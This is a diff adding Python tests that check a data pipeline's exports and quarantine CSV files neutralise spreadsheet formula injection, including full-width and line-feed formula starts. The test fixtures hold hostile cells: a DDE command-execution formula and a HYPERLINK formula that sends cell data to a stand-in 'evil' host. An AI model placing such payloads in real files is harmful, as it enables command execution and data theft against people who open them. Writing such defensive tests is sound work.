@@ -60,3 +60,64 @@ def test_a_champion_registered_without_a_run_is_a_one_line_error(mlflow_uri: str
         err.value
     )
 
+
+def test_neutralise_covers_line_feed_and_full_width_formula_starts() -> None:
+    """Full-width ＝ ＋ － ＠ start formulas in Excel in a Japanese environment (OWASP www-community
+    issue 1088); OWASP added the line feed (PR 1116). Before: all five exported as written."""
+    import pandas as pd
+
+    from pipelines.adapters.exports import neutralise
+
+    cells = ["＝cmd|' /C calc'!A0", "＋1+1", "－2+3", "＠SUM(A1)", "\n=1+1", "Müller＝GmbH", "ー長音", "＄5"]
+    assert neutralise(pd.DataFrame({"x": cells}))["x"].tolist() == [
+        "'＝cmd|' /C calc'!A0",
+        "'＋1+1",
+        "'－2+3",
+        "'＠SUM(A1)",
+        "'\n=1+1",
+        "Müller＝GmbH",
+        "ー長音",
+        "＄5",
+    ]
+
+
+def _hostile_invoices(folder: Path) -> dict[str, Path]:
+    folder.mkdir(parents=True, exist_ok=True)
+    files = {t: folder / f"{t}.csv" for t in ("debtors", "invoices", "payments")}
+    files["debtors"].write_text("debtor_id,name\nD1,Acme\nD2,Beta\n", encoding="utf-8")
+    files["invoices"].write_text(
+        "invoice_id,debtor_id,issue_date,due_date,amount\n"
+        "I1,D1,2024-01-01,2024-01-31,100\n"
+        '"=HYPERLINK(""http://evil/?""&A1,""x"")",NOPE,2024-03-01,2024-03-31,10\n'
+        "I3,＝cmd|' /C calc'!A0,2024-03-01,2024-03-31,10\n"
+        "＠SUM(A1),D2,2024-03-01,2024-03-31,abc\n"
+        "I5,D2,2024-03-01,2024-03-31,－5+3\n"
+        "I6,D2,2024-03-05,2024-04-04,50\n",
+        encoding="utf-8",
+    )
+    files["payments"].write_text("payment_id,debtor_id,invoice_id,paid_on,amount\nP1,D1,I1,2024-01-30,100\n")
+    return files
+
+
+def test_ingest_quarantine_csv_cells_cannot_run_as_formulas_streamed_or_not(tmp_path: Path) -> None:
+    """Before: OUT/quarantine/invoices.csv held the refused rows as written, `=HYPERLINK(...)` first
+    in its cell (what users open to see what was refused; `ews score` copies the file into every run)."""
+    import csv
+
+    from tests.pipelines.test_ingest_stream import _ingest, _outputs
+
+    files = _hostile_invoices(tmp_path / "in")
+    manifest = _ingest(files, tmp_path / "mem", bucket_rows=10**6)
+    inv = manifest["tables"]["invoices"]
+    assert (inv["rows_in"], inv["rows_accepted"], inv["rows_quarantined"]) == (6, 2, 4)
+    text = (tmp_path / "mem" / "quarantine" / "invoices.csv").read_text(encoding="utf-8")
+    rows = list(csv.DictReader(text.splitlines()))
+    assert [(r["invoice_id"], r["debtor_id"], r["amount"]) for r in rows] == [
+        ('\'=HYPERLINK("http://evil/?"&A1,"x")', "NOPE", "10.0"),
+        ("I3", "'＝cmd|' /C calc'!A0", "10.0"),
+        ("'＠SUM(A1)", "D2", "abc"),
+        ("I5", "D2", "'－5+3"),
+    ]
+    _ingest(files, tmp_path / "stream", bucket_rows=10**6, stream=True, chunk_rows=2, partitions=2, workers=1)
+    assert _outputs(tmp_path / "stream") == _outputs(tmp_path / "mem")
+
